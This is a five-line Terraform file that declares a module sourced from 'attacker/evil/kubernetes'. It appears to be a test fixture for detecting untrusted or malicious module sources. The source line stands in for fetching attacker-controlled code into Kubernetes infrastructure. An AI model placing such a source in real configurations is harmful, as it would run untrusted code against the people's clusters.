module "m" {
  source  = "attacker/evil/kubernetes"
  version = "1.0.0"
}
